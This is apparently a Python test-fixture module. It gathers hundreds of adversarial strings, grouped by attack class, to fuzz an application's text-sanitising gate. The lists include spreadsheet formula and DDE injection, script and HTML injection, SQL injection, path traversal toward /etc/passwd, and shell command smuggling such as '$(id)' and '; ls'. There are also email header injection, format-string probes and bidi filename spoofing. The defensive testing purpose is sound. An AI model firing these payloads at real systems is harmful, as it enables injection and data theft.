"""Texts that someone, somewhere, takes for something else: markup, a formula, a path, a pattern, an order.

One corpus for every room: whoever stores, shows, prints, exports or reads text tries it with these. `BAD` holds them by
what they attack; `ALL` is one flat tuple; `texts()` is a hypothesis strategy that mixes them. `PICTURE` stands for the
path of a picture that must never be opened: `with_picture` puts a real one in, so that a test can see it opened.
"""

# ruff: noqa: E501  (rows of data)

from collections.abc import Iterator
from itertools import pairwise

PICTURE = "/nowhere/canary.png"

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.invalid/?"&A1)', "=IMPORTXML(\"http://x.invalid\",\"//a\")",
    "+49 170 1234", "+1+1", "-2+3", "-Ann", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1",
    "＠SUM(1)", "'=1+1", "''=1+1", "'", "%0A=1+1", ";=1+1", ",=1+1", '"=1+1"', "=1+1\t=2", "DDE (\"cmd\";\"/C calc\")",
    "1E9", "00123", "3-4", "1/2", "TRUE", "NA", "null", "None", "NaN", "#REF!",
)  # fmt: skip

RICH_TEXT = (
    "<b>Bob</b>", "<i>王</i>素琴", f"Ann<img src='{PICTURE}'>", f'Ann<img src="{PICTURE}" width=9 height=9>',
    f"<img src=file://{PICTURE}>", '<img src="//host/share/x.png">', '<img src="http://x.invalid/x.png">',
    "<img src='qrc:/x.png'>", "<img src='data:image/png;base64,iVBORw0KGgo='>", "<a href='http://x.invalid'>click</a>",
    "<a href='file:///etc/passwd'>file</a>", "<table width=100000><tr><td>x</td></tr></table>",
    "<h1>Head</h1>", "<p>one<p>two", "<br>", "<hr/>", "<qt>rich</qt>", "<html><body bgcolor=red>red</body></html>",
    f"<style>*{{background:url({PICTURE})}}</style>", f"<div style='background-image:url({PICTURE})'>x</div>",
    "<!-- hidden --> seen", "<?xml version='1.0'?>", "<!DOCTYPE html>", "<script>alert(1)</script>", "<svg onload=x>",
    "<pre>  a  b</pre>", "<font size=99>big</font>", "<ol><li>1</li></ol>", "<object data=x></object>", "<b", "</b>",
    "< b >", "<>", "<<>>", "1 < 2 > 0", "Tom <tom@x.org>", "&lt;b&gt;", "&amp;", "&amp;amp;", "&nbsp;", "&#0;", "&#x41;",
    "&copy", "R&D", "R&D &copy", "R&&D", "A & B", "&File", "Sa&ve", "&", "&&", "&&&", "Tea\t&Cups", "[*]", "Shop [*]",
    "[*][*] x",
)  # fmt: skip

PAPER = (
    "</para>", "<para>", "<para align=center>x</para>", "<onDraw name=x label=y/>", f"<img src='{PICTURE}'/>",
    f'<img src="{PICTURE}" width="10" height="10" valign="top"/>', "<font color=\"[[[getattr(x,'y')]]]\">x</font>",
    "<a name='x'/>", "<link href='http://x.invalid'>l</link>", "<seq id='x'/>", "<greek>a</greek>", "<sub>1</sub>",
    "<super>2</super>", "<unichar code='0x41'/>", "(unbalanced", "balanced)", "\\(escaped\\)", "\\", "\\\\", "BT (x) Tj ET",
    "%PDF-1.7", "endstream endobj", "/JavaScript", "<</S/JavaScript>>", "xref", "trailer",
)  # fmt: skip

CHARTS = (
    "$5 or $10", r"$\foo$", r"$\frac{1}{0}$", "$$", "$", "$x^2$", r"\$5", "_VIP", "__x__", "_", "_nolegend_", "a_b^c",
    "$_{", "^^^", "100%", "%", "%%", "\\n", "{x}",
)  # fmt: skip

FORMATS = (
    "{}", "{n}", "{0}", "{name}", "{0.__class__}", "{name.__class__.__mro__}", "{shop}", "{salutation}", "{file}", "{day}",
    "{who}", "{what}", "{text}", "{all}", "{count}", "{{n}}", "{", "}", "{{", "}}", "{!r}", "{:>99999}", "{n:99999}", "%s",
    "%d", "%n", "%1", "%2", "%L1", "%(name)s", "%1$s", "${name}", "$name", "%p%", "%v", "\\1", "\\g<0>", "\\u0041",
)  # fmt: skip

MARKDOWN = (
    "# Head", "**bold**", "_soft_", "`code`", "```", "[link](http://x.invalid)", f"![alt]({PICTURE})", "- item", "> quote",
    "| a | b |", "~~gone~~", "1. one", "---", "<http://x.invalid>",
)  # fmt: skip

SQL = (
    "zzz' OR 1=1 --", "'; DROP TABLE customer; --", '" OR ""="', "' UNION SELECT 1 --", "\\'", "''", '""', "`x`", "%",
    "_%", "%%%", "\\%", "[a-z]", "*", "?", ":name", "@p", "$p", "?1", "/* x */", "-- x", "; --", "x'00'", "NULL",
)  # fmt: skip

SEARCH = (
    "AND", "OR", "NOT", "NEAR", "NEAR(a b, 5)", "name:", "phone:1", "tokens:*", "{a b}: c", "^x", "a*", "*a", '"', '"a',
    '"a" "b', "(", ")", "(()", "a AND", "a + b", "-", "--", "+a -b", "a NOT", "\u01c1", "col : x",
)  # fmt: skip

PATHS = (
    "../../evil", "..\\..\\evil", "/etc/passwd", "/", "//host/share/x", "\\\\host\\share", "C:\\x", "C:x", "CON", "con", "nul.txt",
    "PRN", "AUX.csv", "COM1", "LPT9.pdf", "a:b", "name.", "name ", "name...", ".", "..", ".hidden", "~", "~root",
    "$HOME", "%APPDATA%", "a/b", "a\\b", "a?b", "a*b", 'a"b', "a<b>c", "a|b", "x" * 300, "photo\u202egnp.exe", "a\x00.pdf",
    "-rf", "--help", "`id`", "$(id)", "; ls", "| ls", "&& ls", "file:///etc/passwd", "desktop.ini",
)  # fmt: skip

HEADERS = (
    "Ann\r\nBcc: all@x.invalid", "Ann\nEND:VCARD", "x\r\nEND:VEVENT\r\nBEGIN:VEVENT", "BEGIN:VCARD", "TEL:110", "a;b;c",
    "a,b\\,c", "a\\nb", "NOTE;ENCODING=QUOTED-PRINTABLE:=0A", "mailto:a@x.invalid?bcc=b@x.invalid", "tel:110", "?subject=x&body=y",
    "x%0d%0aBcc:y", "javascript:alert(1)", '{"a": 1}', "[1, 2", "a\tb\tc", "a\u2028b", "a\u2029b", "a\x85b", "a\x0bb\x0cc",
)  # fmt: skip

CONTROLS = (
    "\x00", "a\x00b", "\x07bell", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x08\x08\x08back", "\x7f", "\x9b31m", "a\rb",
    "\u202etxt.exe", "\u202dabc\u202c", "\u2066a\u2069", "\u200b", "a\u200bb", "\ufeffa", "\ufffe", "\uffff", "\U000e0041",
    "\u2060", "\u00ad", "\u061c", "\u180e", "\ud800", "a\udfffb", "\udcff", "\U0010ffff", "\ue000",
)  # fmt: skip

SCRIPTS = (
    "郑秀英", "𬭎𠮷𡈽", "王\u3000素琴", "ＪＯＳÉ", "é", "e\u0301", "Z̷̡̛a̵̢l̸g̷o̵" + "\u0301" * 60, "a" + "\u0301" * 900, "مرحبا بالعالم", "שלום abc 123",
    "नमस्ते", "ไทย", "한국어", "ﷺ", "ﬁ", "İ", "ß", "Ǆ", "😀", "👨‍👩‍👧‍👦", "👩🏽‍⚕️", "🇨🇳", "1️⃣", "☎️", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "\U0001f9ff", "〇", "々", "㍿",
    "𝕋𝕖𝕒", "½", "№ 5", "……", "——", "¥1,204.50", "\u00a0x\u00a0",
)  # fmt: skip

LONG = (
    "长" * 200, "W" * 1_000, "i" * 1_000, "长" * 1_000, "a b " * 250, "<b>" * 300, "&" * 1_000, "{n}" * 300, "\n" * 300 + "x",
    "x" * 100_000, "长" * 100_000, ("long word " * 10_000).strip(), "\n".join(["line"] * 2_000), "<div>" * 5_000, "👨‍👩‍👧" * 2_000,
)  # fmt: skip

BAD: dict[str, tuple[str, ...]] = {
    "formulas": FORMULAS, "rich text": RICH_TEXT, "paper": PAPER, "charts": CHARTS, "formats": FORMATS, "markdown": MARKDOWN,
    "sql": SQL, "search": SEARCH, "paths": PATHS, "headers": HEADERS, "controls": CONTROLS, "scripts": SCRIPTS, "long": LONG,
}  # fmt: skip

ALL = tuple(dict.fromkeys(text for group in BAD.values() for text in group))
"""Each once; 350 and more."""

STORABLE = tuple(text for text in ALL if not any(0xD800 <= ord(letter) < 0xE000 for letter in text))
"""Those that a database takes at all: a lone surrogate has no UTF-8."""


def with_picture(text: str, picture: str) -> str:
    """The text with the path of a real picture in the place of the invented one."""
    return text.replace(PICTURE, picture)


def cleaned(limit: int, *, multiline: bool = False, picture: str = PICTURE) -> list[str]:
    """What the gate lets through to a field of so many characters: each once, none empty."""
    from app.core.text import clean_or_cut

    passed = (clean_or_cut(with_picture(text, picture), limit, multiline=multiline) for text in ALL)
    return list(dict.fromkeys(text for text in passed if text))


def pairs(texts: tuple[str, ...] = ALL) -> Iterator[str]:
    """Each with its neighbour behind it: two harmless halves may make one that is not."""
    for first, second in pairwise(texts):
        if len(first) + len(second) < 1_000:
            yield first + second


def texts():  # type: ignore[no-untyped-def]
    """A hypothesis strategy: one of these, some of them one after the other, or any text."""
    from hypothesis import strategies as st

    short = [text for text in ALL if len(text) < 1_000]
    return st.one_of(
        st.sampled_from(ALL),
        st.lists(st.sampled_from(short), min_size=2, max_size=4).map("".join),
        st.text(max_size=60),
    )
